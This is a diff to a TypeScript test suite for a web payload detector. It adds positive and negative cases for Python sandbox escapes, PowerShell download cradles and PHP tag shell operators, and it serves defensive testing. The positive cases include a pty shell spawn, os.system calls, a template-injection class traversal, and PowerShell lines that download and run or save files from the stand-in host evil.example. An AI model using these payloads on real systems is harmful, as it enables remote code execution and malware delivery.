@@ -565,7 +565,42 @@ const NOT_VBSCRIPT_CALL: Case[] = [
   ["query", "q=" + encodeURIComponent("myvbscript:run(1)")],
 ];
 
+// Python reaching its interpreter (pyescape.ts): the class of where it runs.
+const PYTHON_ESCAPE: Case[] = [
+  ["query", "q=" + encodeURIComponent("__builtins__.eval('1+1')")],
+  ["query", "name=" + encodeURIComponent('__import__("pty").spawn("/bin/sh")')],
+  ["body:json", JSON.stringify({ tpl: "{{ ().__class__.__bases__[0].__subclasses__() }}" })],
+  ["body:form", "expr=" + encodeURIComponent("getattr(__builtins__,'__import__')('os').system('id')")],
+];
+const NOT_PYTHON_ESCAPE: Case[] = [
+  ["body:json", JSON.stringify({ code: "import os\nprint(os.path.join('a', 'b'))\nmod = __import__('json')" })],
+  ["body:json", JSON.stringify({ text: "Python's __subclasses__() lists a class's direct subclasses; __builtins__ holds the built-ins." })],
+];
+// A PowerShell download cradle (pscradle.ts): rce.
+const POWERSHELL_CRADLE: Case[] = [
+  ["query", "c=" + encodeURIComponent("powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')")],
+  ["body:form", "cmd=" + encodeURIComponent("Invoke-Expression (Invoke-WebRequest http://evil.example/x).Content")],
+  ["body:json", JSON.stringify({ x: "(New-Object System.Net.WebClient).DownloadFile('http://evil.example/a.exe','C:\\a.exe')" })],
+];
+const NOT_POWERSHELL_CRADLE: Case[] = [
+  ["body:json", JSON.stringify({ script: "$r = Invoke-WebRequest -Uri 'https://api.example.com/v1/items'; $r.StatusCode" })],
+  ["body:json", JSON.stringify({ text: "Use iex (short for Invoke-Expression) with care; DownloadString(url) returns a string." })],
+];
+// PHP's shell operator in a PHP tag (phptag.ts): rce.
+const PHP_TAG_SHELL: Case[] = [
+  ["query", "x=" + encodeURIComponent("<?= `ls` ?>")],
+  ["body:form", "c=" + encodeURIComponent("<?php echo `id`; ?>")],
+];
+const NOT_PHP_TAG_SHELL: Case[] = [
+  ["body:json", JSON.stringify({ md: "Run `npm ci` then `npm test`; the page starts with <?xml version=\"1.0\"?>." })],
+  ["body:json", JSON.stringify({ md: "Use the `<?php` tag; see `phpinfo` in the docs." })],
+  ["body:json", JSON.stringify({ md: "Write <?php at the top of the file, then run `composer install` and `php -S localhost:8000`." })],
+];
+
 describeVerdicts("%s payload verdicts", () => core, [
+  ["python-escape", "rce|ssti|xss|nosqli", PYTHON_ESCAPE, NOT_PYTHON_ESCAPE],
+  ["powershell-cradle", "rce", POWERSHELL_CRADLE, NOT_POWERSHELL_CRADLE],
+  ["php-tag-shell", "rce", PHP_TAG_SHELL, NOT_PHP_TAG_SHELL],
   ["vbscript-call", "xss", VBSCRIPT_CALL, NOT_VBSCRIPT_CALL],
   ["storage-theft", "xss", STORAGE_THEFT, NOT_STORAGE_THEFT],
   ["session-fixation", "xss", SESSION_FIXATION, NOT_SESSION_FIXATION],
